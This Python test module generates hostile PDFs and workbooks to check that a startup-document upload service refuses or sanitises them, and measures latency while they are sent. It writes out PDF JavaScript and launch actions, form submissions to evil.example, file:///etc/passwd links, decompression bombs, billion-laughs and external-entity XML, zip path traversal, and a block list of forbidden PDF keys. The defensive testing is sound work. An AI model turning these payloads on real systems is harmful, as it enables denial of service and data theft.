"""Hostile PDFs and workbooks, made from a seed: each is refused with a reason or comes out with
nothing active in it.

`python -m tests.long.hostile_files --count 200 [--seed 1]` looks at each result and tells time and
memory of the worst; `--beside 60` an honest reader's p50 and p99, alone and while they are sent.
"""

import argparse
import io
import json
import multiprocessing
import os
import random
import re
import resource
import statistics
import tempfile
import threading
import time
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from functools import cache
from itertools import islice
from multiprocessing.queues import SimpleQueue
from multiprocessing.synchronize import Event
from pathlib import Path

import pikepdf
from openpyxl import Workbook
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String

from nakodo_client import Client, Refused
from services.startups import pdf
from shared.auth import ADMINISTRATOR, Actor
from shared.errors import DomainError
from shared.organizations import sheets
from shared.paper import compiled
from shared.text import cleaned
from tests.conftest import startup_form
from tests.flow.server import Running

Trick = Callable[[Pdf, random.Random], None]
WORDS = "A plain page"
ACTS = {  # actions by name, each as Adobe's and others' readers run them
    "script": lambda: Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")),
    "launch": lambda: Dictionary(S=Name.Launch, F=String("cmd.exe"), NewWindow=True),
    "submit": lambda: Dictionary(
        S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://evil.example/take"))
    ),
    "share": lambda: Dictionary(
        S=Name.GoToR, F=String("\\\\evil.example\\share\\x.pdf"), D=Array([0, Name.Fit])
    ),
    "embedded": lambda: Dictionary(
        S=Name.GoToE, F=String("x.pdf"), T=Dictionary(R=Name.C, N=String("x"))
    ),
    "import": lambda: Dictionary(S=Name.ImportData, F=String("\\\\evil.example\\x.fdf")),
    "rendition": lambda: Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert(1)")),
    "hide": lambda: Dictionary(S=Name.Hide, T=String("field")),
    "named": lambda: Dictionary(S=Name.Named, N=Name.Print),
    "scripted address": lambda: Dictionary(S=Name.URI, URI=String("javascript:alert(1)")),
    "file address": lambda: Dictionary(S=Name.URI, URI=String("file:///etc/passwd")),
    "share address": lambda: Dictionary(S=Name.URI, URI=String("\\\\evil.example\\x")),
    "chain": lambda: Dictionary(
        S=Name.URI,
        URI=String("https://a.example/"),
        Next=Dictionary(S=Name.JavaScript, JS=String("app.alert(1)")),
    ),
    "layer": lambda: Dictionary(S=Name.SetOCGState, State=Array([Name.OFF])),
}
ANNOTATIONS = [
    "Link",
    "Widget",
    "Screen",
    "Movie",
    "Sound",
    "FileAttachment",
    "RichMedia",
    "3D",
    "Redact",
    "Watermark",
    "PrinterMark",
    "FreeText",
    "Stamp",
    "Popup",
]
FORBIDDEN = set(
    [
        "/JS",
        "/JavaScript",
        "/OpenAction",
        "/AA",
        "/AcroForm",
        "/XFA",
        "/EmbeddedFiles",
        "/EF",
        "/AF",
        "/Names",
        "/OCProperties",
        "/OC",
        "/Metadata",
        "/PieceInfo",
        "/Ref",
        "/Alternates",
        "/OPI",
        "/FFilter",
        "/FDecodeParms",
        "/PresSteps",
        "/Trans",
        "/Outlines",
        "/Dests",
        "/Threads",
        "/B",
        "/Collection",
        "/Perms",
        "/DSS",
        "/Requirements",
        "/StructTreeRoot",
        "/RichMediaContent",
        "/RichMediaSettings",
        "/Movie",
        "/Sound",
        "/Next",
        "/URLS",
        "/SpiderInfo",
        "/Extensions",
        "/AP",
        "/DA",
        "/Parent2",
        "/Properties",
    ]
)


@cache
def paper(pages: int = 1) -> bytes:
    source = "#set page(width: 120mm, height: 80mm)\n" + "#pagebreak()\n".join(
        [f"{WORDS}\n"] * pages
    )
    return compiled(source, {})


def _act(dice: random.Random) -> Dictionary:
    return ACTS[dice.choice(list(ACTS))]()


def _annotate(pdf: Pdf, dice: random.Random) -> None:
    kind = dice.choice(ANNOTATIONS)
    made = Dictionary(
        Type=Name.Annot, Subtype=Name("/" + kind), Rect=Array([10, 10, 90, 40]), A=_act(dice)
    )
    made.AA = Dictionary(E=_act(dice), PV=_act(dice))
    if kind in ("FileAttachment", "RichMedia", "Movie", "Sound"):
        made.FS = Dictionary(
            Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=pdf.make_stream(b"MZ"))
        )
    if dice.random() < 0.5:
        made.AP = Dictionary(
            N=_form(pdf, b"0 0 10 10 re f", OC=Dictionary(Type=Name.OCG, Name=String("x")))
        )
    page = pdf.pages[0].obj
    page.Annots = Array([*page.get("/Annots", ()), pdf.make_indirect(made)])


def _form(pdf: Pdf, drawn: bytes, **more) -> Stream:
    return Stream(
        pdf,
        drawn,
        Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 100, 100]), **more),
    )


def _draw(pdf: Pdf, thing: pikepdf.Object, part: str = "/XObject") -> None:
    page = pdf.pages[0].obj
    held = page.Resources.get(part, Dictionary())
    held[f"/Evil{len(held)}"] = thing
    page.Resources[part] = held


def _nested(pdf: Pdf, dice: random.Random) -> None:
    """Something active deep inside what a page draws with."""
    inner = _form(
        pdf,
        b"0 0 5 5 re f",
        AA=Dictionary(O=_act(dice)),
        Ref=Dictionary(F=String("\\\\evil.example\\x.pdf"), Page=0),
    )
    for _ in range(dice.randrange(1, 60)):
        inner = _form(
            pdf,
            b"/X Do",
            Resources=Dictionary(XObject=Dictionary(X=inner)),
            PieceInfo=Dictionary(Evil=_act(dice)),
        )
    _draw(pdf, inner)


def _cycle(pdf: Pdf, dice: random.Random) -> None:
    inner = _form(pdf, b"/X Do")
    inner.Resources = Dictionary(XObject=Dictionary(X=inner), Pattern=Dictionary(P=inner))
    _draw(pdf, inner)


def _outside(pdf: Pdf, dice: random.Random) -> None:
    """Streams whose bytes lie elsewhere, and pictures with others behind them."""
    away = Dictionary(FS=Name.URL, F=String("https://evil.example/x"))
    picture = Stream(
        pdf,
        b"\0" * 3,
        Dictionary(Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8),
    )
    picture.ColorSpace, picture.F, picture.FFilter = Name.DeviceRGB, away, Name.FlateDecode
    picture.Alternates = Array([Dictionary(Image=picture, DefaultForPrinting=True)])
    picture.OPI, picture.Metadata = Dictionary({"/1.3": away}), pdf.make_stream(b"<x/>")
    _draw(pdf, picture)
    _draw(pdf, Stream(pdf, b"%!PS systemdict", Dictionary(Type=Name.XObject, Subtype=Name.PS)))


def _font(pdf: Pdf, dice: random.Random) -> None:
    made = Dictionary(
        Type=Name.Font,
        Subtype=Name.Type3,
        FontBBox=Array([0, 0, 1, 1]),
        FontMatrix=Array([1, 0, 0, 1, 0, 0]),
    )
    made.CharProcs, made.AA = (
        Dictionary(a=pdf.make_stream(b"0 0 1 1 re f")),
        Dictionary(O=_act(dice)),
    )
    made.Encoding = Dictionary(
        Type=Name.Encoding, Differences=Array([97, Name.a]), JS=String("app.alert(1)")
    )
    made.FontDescriptor = Dictionary(
        Type=Name.FontDescriptor, FontFile=pdf.make_stream(b"%!PS"), A=_act(dice)
    )
    _draw(pdf, made, "/Font")
    _draw(
        pdf,
        Dictionary(
            Type=Name.ExtGState,
            HT=_act(dice),
            SMask=Dictionary(S=Name.Alpha, G=_form(pdf, b"", A=_act(dice))),
        ),
        "/ExtGState",
    )


def _catalog(pdf: Pdf, dice: random.Random) -> None:
    root, name = (
        pdf.Root,
        dice.choice(
            [
                "OpenAction",
                "AA",
                "Outlines",
                "Collection",
                "URI",
                "Threads",
                "Perms",
                "AF",
                "Metadata",
            ]
        ),
    )
    held = {
        "AA": Dictionary(WC=_act(dice)),
        "Outlines": Dictionary(First=Dictionary(Title=String("x"), A=_act(dice))),
    }
    root[f"/{name}"] = held.get(name, _act(dice))


def _names(pdf: Pdf, dice: random.Random) -> None:
    kind = dice.choice(
        ["JavaScript", "EmbeddedFiles", "Renditions", "AlternatePresentations", "URLS", "Dests"]
    )
    pdf.Root.Names = Dictionary({f"/{kind}": Dictionary(Names=Array([String("x"), _act(dice)]))})


def _xfa(pdf: Pdf, dice: random.Random) -> None:
    field = pdf.make_indirect(
        Dictionary(
            FT=Name.Tx,
            T=String("x"),
            AA=Dictionary(K=_act(dice)),
            Subtype=Name.Widget,
            Rect=Array([0, 0, 9, 9]),
        )
    )
    xfa = pdf.make_stream(
        b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>"
    )
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([field]), XFA=xfa, NeedAppearances=dice.random() < 0.5
    )
    pdf.pages[0].obj.Annots = Array([field])


def _layers(pdf: Pdf, dice: random.Random) -> None:
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("x")))
    off = Array([layer]) if dice.random() < 0.5 else Array([])
    pdf.Root.OCProperties = Dictionary(
        OCGs=Array([layer]), D=Dictionary(OFF=off, AS=Array([Dictionary(Event=Name.Print)]))
    )
    _draw(pdf, _form(pdf, b"0 0 9 9 re f", OC=layer))
    _draw(pdf, layer, "/Properties")


def _page(pdf: Pdf, dice: random.Random) -> None:
    page = pdf.pages[0].obj
    page.AA, page.AF, page.B = (
        Dictionary(O=_act(dice), C=_act(dice)),
        Array([_act(dice)]),
        Array([_act(dice)]),
    )
    page.PieceInfo, page.Metadata, page.Trans = (
        Dictionary(X=_act(dice)),
        pdf.make_stream(b"<x/>"),
        Dictionary(S=Name.Fly),
    )
    page.PresSteps = Dictionary(NA=_act(dice))


def _box(pdf: Pdf, dice: random.Random) -> None:
    """A page of a size that no page has."""
    wrong = [
        Array([]),
        Array([0, 0, 0, 0]),
        Array([0, 0, 1e9, 1e9]),
        Array([Name.x] * 4),
        Name.x,
        Array([0, 0, 9]),
        Array([String("9")] * 4),
    ]
    pdf.pages[0].obj.MediaBox = dice.choice(wrong)


def _crop(pdf: Pdf, dice: random.Random) -> None:
    page = pdf.pages[0].obj
    page.CropBox, page.Rotate, page.UserUnit = (
        Array([Name.x, 0, -5, 1e30]),
        dice.choice([45, 90, Name.x, -270]),
        1e9,
    )


def _sizes(pdf: Pdf, dice: random.Random) -> None:
    for n in range(299):
        pdf.add_blank_page(page_size=(100 + n, 200 + n))


def _packed(pdf: Pdf, dice: random.Random) -> None:
    """A stream that unpacks to 300 MB, somewhere."""
    raw = _zeros(300_000_000)
    made = Stream(
        pdf,
        raw,
        Dictionary(
            Filter=Name.FlateDecode, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 9, 9])
        ),
    )
    if dice.random() < 0.5:
        made.Subtype, made.Width, made.Height, made.BitsPerComponent = Name.Image, 9, 9, 8
        made.ColorSpace = Name.DeviceGray
    pdf.pages[0].obj.Contents = made if dice.random() < 0.3 else pdf.make_stream(b"")
    _draw(pdf, made)


def _picture(pdf: Pdf, dice: random.Random) -> None:
    made = Stream(
        pdf,
        b"x",
        Dictionary(
            Type=Name.XObject, Subtype=Name.Image, Width=10**6, Height=10**6, BitsPerComponent=8
        ),
    )
    made.ColorSpace = Array(
        [Name.Indexed, Array([Name.Indexed, Name.DeviceRGB, 1, String("x")]), 10**9, String("x")]
    )
    _draw(pdf, made)


TRICKS: dict[str, Trick] = {
    t.__name__.strip("_"): t
    for t in (_annotate, _nested, _cycle, _outside, _font, _catalog, _names, _xfa, _layers)
}
TRICKS |= {t.__name__.strip("_"): t for t in (_page, _box, _crop, _sizes, _packed, _picture)}


@cache
def _zeros(size: int) -> bytes:
    packer = zlib.compressobj(9)
    return (
        b"".join(packer.compress(b"0" * 1_000_000) for _ in range(size // 1_000_000))
        + packer.flush()
    )


def pdfs(seed: int, count: int) -> Iterator[tuple[str, bytes]]:
    """Hostile PDFs by name; every trick comes once before they mix, one in six is broken as bytes
    besides.
    """
    dice, plain = random.Random(seed), paper()
    for n in range(count):
        names = (
            [list(TRICKS)[n]]
            if n < len(TRICKS)
            else dice.sample(list(TRICKS), dice.randrange(1, 4))
        )
        with Pdf.open(io.BytesIO(plain)) as pdf:
            for name in names:
                TRICKS[name](pdf, dice)
            out = io.BytesIO()
            pdf.save(
                out,
                object_stream_mode=dice.choice(list(pikepdf.ObjectStreamMode)),
                fix_metadata_version=False,
            )
        content = bytearray(out.getvalue())
        if n >= len(TRICKS) and dice.random() < 1 / 6:
            names.append("bytes")
            for _ in range(dice.randrange(1, 40)):
                content[dice.randrange(20, len(content))] = dice.randrange(256)
        yield f"{n} {'+'.join(names)}", bytes(content)


def active(content: bytes) -> list[str]:
    """What is active in a PDF: its whole graph is walked, every object unpacked; nothing is
    believed but the allow-list of links.
    """
    found = []
    with Pdf.open(io.BytesIO(content)) as pdf:
        strange = {k for k in pdf.Root if k not in ("/Type", "/Pages")} | (
            {"/Info"} & set(pdf.trailer)
        )
        found += [f"catalogue {k}" for k in strange]
        queue = [(o, f"object {o.objgen}") for o in pdf.objects]
        while queue:
            thing, at = queue.pop()
            if isinstance(thing, (Dictionary, Stream)):
                found += _faults(thing, at)
                queue += [
                    (v, f"{at}{k}")
                    for k, v in thing.items()
                    if isinstance(v, pikepdf.Object) and not v.is_indirect
                ]
            elif isinstance(thing, Array):
                queue += [
                    (v, f"{at}[]")
                    for v in thing
                    if isinstance(v, pikepdf.Object) and not v.is_indirect
                ]
        out = io.BytesIO()
        pdf.save(
            out,
            object_stream_mode=pikepdf.ObjectStreamMode.disable,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
        )
    words = re.findall(
        rb"/JavaScript|/Launch|/SubmitForm|/GoTo[RE]|app\.alert|evil\.example|javascript:|file:///",
        out.getvalue(),
    )
    return found + [w.decode() for w in words]


def _faults(thing: pikepdf.Object, at: str) -> list[str]:
    act = thing.get("/S") if "/URI" in thing or "/D" in thing else None
    plain = (
        act == Name.URI and set(thing) == {"/S", "/URI"} and str(thing.URI).startswith("https://")
    )
    found = [f"{at} {k}" for k in FORBIDDEN & set(thing)]
    found += [f"{at} action {act}"] if act is not None and not plain else []
    found += (
        [f"{at} annotation"]
        if thing.get("/Type") == Name.Annot and thing.get("/Subtype") != Name.Link
        else []
    )
    found += [f"{at} {thing.get('/Subtype')}"] if thing.get("/Subtype") == Name.PS else []
    return found + ([f"{at} /F"] if isinstance(thing, Stream) and "/F" in thing else [])


# -- workbooks


def book(rows: list[list] = (("name_en",), ("Rei",))) -> bytes:
    made, raw = Workbook(), io.BytesIO()
    for row in rows:
        made.active.append(list(row))
    made.save(raw)
    return raw.getvalue()


SHEET = "<worksheet xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>{}<sheetData>{}</sheetData></worksheet>"
TEXT = "<row r='1'><c r='A1' t='inlineStr'><is><t>name_en</t></is></c></row>"
LAUGHS = "<!DOCTYPE l [<!ENTITY l0 'lol'>{}]>".format(
    "".join(f"<!ENTITY l{i} '{f'&l{i - 1};' * 10}'>" for i in range(1, 10))
)


def changed(parts: dict[str, bytes | str], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A sound workbook with parts put in place of its own, or beside them."""
    raw, good = io.BytesIO(), zipfile.ZipFile(io.BytesIO(book()))
    held = {i.filename: good.read(i.filename) for i in good.infolist()} | parts
    with zipfile.ZipFile(raw, "w", packing) as archive:
        for name, content in held.items():
            archive.writestr(name, content)
    return raw.getvalue()


def _sheet(inner: str, before: str = "", head: str = "") -> bytes:
    return changed({"xl/worksheets/sheet1.xml": head + SHEET.format(before, inner)})


def _noise(dice: random.Random, cells: int) -> str:
    """Cells that do not pack well, so that no ratio gives them away."""
    return "".join(
        f"<c r='{dice.choice('ABCDEFGH')}{dice.randrange(10**6)}' s='{dice.randrange(9)}'/>"
        for _ in range(cells)
    )


def _lying(dice: random.Random) -> bytes:
    """An archive whose directory says that a large part is small."""
    content = bytearray(_sheet("<row/>" * 2_000_000))
    at = content.rfind(b"PK\x01\x02", 0, content.rfind(b"xl/worksheets/sheet1.xml"))
    content[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(content)


BOOKS: dict[str, Callable[[random.Random], bytes]] = {
    "cells of one row": lambda d: _sheet("<row>" + "<c/>" * 5_000_000 + "</row>"),
    "31 KB of cells": lambda d: _sheet("<row>" + "<c s='1'/>" * 1_300_000 + "</row>"),
    "90 KB of cells": lambda d: _sheet(("<row>" + "<c s='1'/>" * 1000 + "</row>") * 3800),
    "cells that pack badly": lambda d: _sheet("<row>" + _noise(d, 150_000) + "</row>"),
    "empty rows": lambda d: _sheet("<row/>" * 5_000_000),
    "the last column again and again": lambda d: _sheet(
        "".join(f"<row r='{n}'><c r='XFD{n}' t='b'><v>1</v></c></row>" for n in range(1, 20000))
    ),
    "the last row": lambda d: _sheet(TEXT + "<row r='1048576'><c r='A1048576'><v>1</v></c></row>"),
    "a row beyond all rows": lambda d: _sheet(
        TEXT + "<row r='99999999999'><c r='A99999999999'><v>1</v></c></row>"
    ),
    "a size that is none": lambda d: _sheet(TEXT, "<dimension ref='A1:XFD1048576'/>"),
    "shared texts": lambda d: changed(
        {"xl/sharedStrings.xml": "<sst xmlns='x'>" + "<si><t/></si>" * 3_000_000 + "</sst>"}
    ),
    "one text of 50 MB": lambda d: _sheet(
        f"<row><c t='inlineStr'><is><t>{'x' * 50_000_000}</t></is></c></row>"
    ),
    "styles": lambda d: changed(
        {
            "xl/styles.xml": "<styleSheet xmlns='x'><cellXfs>"
            + "<xf/>" * 3_000_000
            + "</cellXfs></styleSheet>"
        }
    ),
    "deep tags": lambda d: _sheet("<a>" * 400_000 + "</a>" * 400_000),
    "laughs in the sheet": lambda d: _sheet(
        "<row><c t='inlineStr'><is><t>&l9;</t></is></c></row>", head=LAUGHS
    ),
    "laughs in the book": lambda d: changed(
        {"xl/workbook.xml": LAUGHS + "<workbook>&l9;</workbook>"}
    ),
    "laughs in the types": lambda d: changed(
        {"[Content_Types].xml": LAUGHS + "<Types>&l9;</Types>"}
    ),
    "an outside entity": lambda d: _sheet(
        "<row><c t='inlineStr'><is><t>&e;</t></is></c></row>",
        head="<!DOCTYPE e [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    ),
    "many parts": lambda d: changed({f"p{n}.xml": b"<x/>" for n in range(5000)}),
    "a lying directory": _lying,
    "names that climb": lambda d: changed({"../../../tmp/evil.xml": b"<x/>", "/etc/evil": b"x"}),
    "a part of zeros": lambda d: changed({"xl/media/x.bin": b"0" * 59_000_000}),
    "not a number": lambda d: _sheet(
        TEXT + "<row><c><v>NaN</v></c><c><v>1e999</v></c><c><v>INF</v></c></row>"
    ),
    "a day beyond days": lambda d: _sheet(
        TEXT + "<row><c t='d'><v>99999-99-99</v></c><c s='1'><v>1e300</v></c></row>"
    ),
    "control characters": lambda d: book([["name_en"], ["Rei"]]).replace(b"Rei", b"R\x0bi"),
    "half a character": lambda d: _sheet(
        "<row><c t='inlineStr'><is><t>&#xD800;</t></is></c></row>"
    ),
    "a sheet that is none": lambda d: changed({"xl/worksheets/sheet1.xml": b"\x00\xff" * 1000}),
    "a sheet too few": lambda d: changed(
        {"xl/workbook.xml": b"<workbook xmlns='x'><sheets/></workbook>"}
    ),
    "a text number that is none": lambda d: _sheet(
        "<row><c t='s'><v>999999999999</v></c><c t='s'><v>-1</v></c></row>"
    ),
    "a locked archive": lambda d: bytes(b ^ (1 if i == 6 else 0) for i, b in enumerate(book())),
    "half a book": lambda d: book()[: d.randrange(100, 3000)],
    "two books": lambda d: book() + book(),
    "delimiters": lambda d: b"name_en\n" + b"," * 4_900_000,
    "lines": lambda d: b"name_en\n" + b"x\n" * 2_000_000,
    "one cell": lambda d: b"name_en\n" + b"x" * 4_900_000,
    "open quotes": lambda d: b'name_en\n"' + b'""' * 2_000_000,
    "escapes": lambda d: b"name_en\n\x1b$B" + bytes(d.randrange(33, 126) for _ in range(2000)),
    "bytes": lambda d: d.randbytes(100_000),
}


def books(seed: int, count: int) -> Iterator[tuple[str, bytes]]:
    """Hostile tables by name: each kind once, then kinds with bytes of them changed."""
    dice, names = random.Random(seed), list(BOOKS)
    for n in range(count):
        name = names[n] if n < len(names) else dice.choice(names)
        content = bytearray(BOOKS[name](dice))
        if n >= len(names):
            for _ in range(dice.randrange(1, 20)):
                content[dice.randrange(4, len(content))] = dice.randrange(256)
        yield f"{n} {name}", bytes(content)


# -- what is shown


def outcome(name: str, content: bytes) -> str:
    """`refused CODE` or `harmless`. Raises AssertionError where something active comes out."""
    try:
        if content[:1024].lstrip().startswith(b"%PDF-"):
            made = pdf.rebuilt(content)
            assert not (left := active(made)), f"{name}: {left[:5]}"
            assert len(made) < 5_000_000 and pdf.stamped(made, "x")
            return "harmless"
        rows = sheets.read(content, "t.csv" if content[:2] != b"PK" else "t.xlsx")
        assert all(
            text == cleaned(text) for row in rows for pair in row.items() for text in pair
        ), name
        return "harmless"
    except DomainError as refused:
        assert refused.status == 422, f"{name}: {refused.code}"
        return f"refused {refused.code}"


def files(seed: int, count: int) -> Iterator[tuple[str, bytes]]:
    """As many of each kind, in turn."""
    for pair in zip(pdfs(seed, (count + 1) // 2), books(seed, (count + 1) // 2), strict=True):
        yield from pair


def look(seed: int, count: int) -> None:
    times, told = [], Counter()
    for name, content in islice(files(seed, count), count):
        begin = time.monotonic()
        said = outcome(name, content)
        times.append((round(time.monotonic() - begin, 2), name, len(content), said))
        told[said] += 1
    worst = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024
    print(
        json.dumps(told, indent=1),
        f"\n{count} files, none active, none beyond its limits; the slowest:",
    )
    for line in sorted(times, reverse=True)[:8]:
        print("  {:.2f} s  {}, {} bytes: {}".format(*line))
    print(f"largest process: {worst} MB" if worst else "")


def beside(seconds: float, seed: int) -> None:
    """p50 and p99 of a reader who has nothing to do with it, alone and while four startups send
    hostile files without pause.
    """
    with tempfile.TemporaryDirectory() as folder:
        server = Running(Path(folder)).start(120)
        try:
            admin = server.client(ADMINISTRATOR)
            owners = [
                Actor(f"evil-{n}", f"evil-{n}", frozenset({"startup", "administrator"}))
                for n in range(4)
            ]
            for owner in owners:
                admin.register(
                    "startups",
                    startup_form(f"Evil {owner.org} (invented)", id=owner.org, owner=owner.org),
                )
            clients = [(server.client(owner), owner.org) for owner in owners]
            reader = server.client(ADMINISTRATOR)
            _times(reader, 3)
            print("alone:            ", _figures(_times(reader, seconds)))
            fork = multiprocessing.get_context("fork")
            stop, answers = fork.Event(), fork.SimpleQueue()
            senders = fork.Process(target=_senders, args=(clients, seed, stop, answers))
            senders.start()
            print("beside the senders:", _figures(_times(reader, seconds)))
            stop.set()
            print("answers to the senders:", answers.get())
            senders.join()
        finally:
            server.stop()


def _senders(
    clients: list[tuple[Client, str]], seed: int, stop: Event, answers: SimpleQueue
) -> None:
    """Strangers' machines: a process of their own, whose work is not the server's."""
    os.nice(10)
    sent: Counter = Counter()
    hostile = list(files(seed, 120))
    threads = [
        threading.Thread(target=_send, args=(client, slug, hostile, sent, stop))
        for client, slug in clients
    ]
    [thread.start() for thread in threads]
    [thread.join() for thread in threads]
    answers.put(dict(sent))


def _times(reader: Client, seconds: float) -> list[float]:
    found, end = [], time.monotonic() + seconds
    while time.monotonic() < end:
        begin = time.perf_counter()
        reader.get("/api/v1/startups", limit=20)
        found.append(time.perf_counter() - begin)
        time.sleep(0.02)
    return found


def _figures(times: list[float]) -> str:
    cuts = statistics.quantiles(times, n=100)
    return f"{len(times)} reads, p50 {cuts[49] * 1000:.1f} ms, p99 {cuts[98] * 1000:.1f} ms"


def _send(
    client: Client,
    slug: str,
    hostile: list[tuple[str, bytes]],
    sent: Counter,
    stop: Event,
) -> None:
    dice = random.Random(slug)
    while not stop.is_set():
        _, content = dice.choice(hostile)
        try:
            if content.startswith(b"%PDF-"):
                client.add_document(slug, "deck.pdf", content, kind="deck", language="en")
            else:
                client.import_startups("t.xlsx" if content[:2] == b"PK" else "t.csv", content)
            sent[200] += 1
        except Refused as refused:
            sent[refused.status] += 1
            time.sleep(0.05)


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--count", type=int, default=200)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--beside", type=float, metavar="SECONDS")
    asked = parser.parse_args()
    beside(asked.beside, asked.seed) if asked.beside else look(asked.seed, asked.count)


if __name__ == "__main__":
    main()
